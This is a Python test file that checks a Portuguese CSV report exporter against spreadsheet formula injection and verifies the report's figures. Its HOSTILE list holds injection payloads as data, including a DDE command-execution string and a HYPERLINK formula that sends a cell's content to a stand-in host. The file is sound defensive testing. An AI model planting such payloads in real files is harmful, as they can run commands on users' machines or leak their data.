"""Does a spreadsheet give back what was put into it, and run nothing of it?"""

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.post.digestfacts import DigestFacts, ItemCountFacts
from gateway.post.wording import csv_pt
from tests.letters.digested import digest
from tests.letters.samples import letters

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://mau.example?x="&A1;"Clique")',
    "@SUM(A1:A9)",
    "+55 11 5555-0100",
    "-2+3",
    "-",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "'=1+1",
    "''",
    "'",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "a;b",
    "a,b",
    'diz "sim"',
    '"',
    '";"',
    '"\n"',
    "uma\nlinha",
    "uma\r\nlinha",
    "uma\rlinha",
    "fim\r",
    " =1+1",
    "a=1+1",
    "",
    "ação",
    "\U0001f600;\U0001f600",
]
STARTERS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
CELL = st.text(st.sampled_from(STARTERS + "';\",a1 \u00e7") | st.characters(exclude_categories=("Cs",), exclude_characters="\x00"))


def read_back(sheet: str) -> list[list[str]]:
    """The texts of a sheet: one leading apostrophe of a cell is dropped."""
    return [[cell.removeprefix("'") for cell in row] for row in csv.reader(io.StringIO(sheet, newline=""), delimiter=";", strict=True)]


def written(rows: list[list[str]]) -> str:
    return "".join(";".join(map(csv_pt, row)) + "\r\n" for row in rows)


def test_hostile_cells_come_back_as_they_were() -> None:
    rows = [HOSTILE, *([cell, "no meio", cell] for cell in HOSTILE)]
    assert read_back(written(rows)) == rows


@given(st.lists(st.lists(CELL, min_size=2, max_size=5), min_size=1, max_size=5))
def test_any_cells_come_back_as_they_were(rows: list[list[str]]) -> None:
    assert read_back(written(rows)) == rows


@given(CELL)
def test_no_cell_begins_as_a_formula_does(cell: str) -> None:
    [[seen]] = csv.reader(io.StringIO(csv_pt(cell) + "\r\n", newline=""), delimiter=";", strict=True) if cell else [[""]]
    assert not seen.startswith(tuple(STARTERS))


@pytest.mark.parametrize(("value", "cell"), [(None, ""), (0, "0"), (27_397, "27397"), (0.0, "0,00"), (1.255, "1,25"), (1234.5, "1234,50")])
def test_numbers_are_such_as_excel_in_portuguese_reckons_with(value: float | None, cell: str) -> None:
    assert csv_pt(value) == cell


def sheet_of(figures: DigestFacts) -> str:
    return letters().sheet("relatorio", {"digest": figures})


@pytest.mark.parametrize("title", [cell for cell in HOSTILE if cell == " ".join(cell.split()) and cell])
def test_the_sheet_of_a_digest_gives_hostile_titles_back(title: str) -> None:
    sheet = sheet_of(replace(digest("asked", 3), items=(ItemCountFacts(title, 3, None, odd=False),)))
    assert ["assunto", title, "3", ""] in read_back(sheet.removeprefix("\ufeff"))


def test_the_sheet_of_a_digest_holds_every_figure_and_opens_in_excel() -> None:
    figures = digest("asked", 8)
    sheet = sheet_of(figures)
    assert sheet.startswith("\ufeffo quê;qual;agora;antes ou normal\r\n")
    assert sheet.count("\n") == sheet.count("\r\n")
    rows = read_back(sheet.removeprefix("\ufeff"))
    assert {len(row) for row in rows} == {4}
    kinds = [row[0] for row in rows[1:]]
    assert kinds.count("movimento") == len(figures.counts)
    assert kinds.count("mediana em horas de expediente") == len(figures.medians)
    assert kinds.count("idade") == len(figures.ages)
    assert kinds.count("aberto agora") == len(figures.statuses)
    assert kinds.count("abertos no dia") == kinds.count("em aberto no fim do dia") == len(figures.days)
    assert ["idade", "até 1 dia", "6", ""] in rows
    assert ["idade", "mais de 30 dias", "0", ""] in rows
    assert ["mediana em horas de expediente", "Até a primeira resposta", "1,25", ""] in rows
    assert ["assunto", "12 - PORTAL DE REQUERIMENTOS > SISTEMA > INDISPONIBILIDADE", "4", "0,96"] in rows
    assert [row[1:] for row in rows if row[0] == "espera"] == [
        ["atrasados", "1", ""],
        ["aprovação", "5", ""],
        ["sigilosos abertos", "1", ""],
    ]
    assert [row[1:3] for row in rows if row[0] == "e-mails"] == [["recebidos", "24"], ["com destino", "23"], ["sem destino", "1"]]
    assert [row[1:3] for row in rows if row[0] == "período"] == [["de", "25/10/2026 07:30"], ["a", "24/11/2026 07:30"]]
    assert [row[1] for row in rows if row[0] == "grupo"] == list(figures.groups)
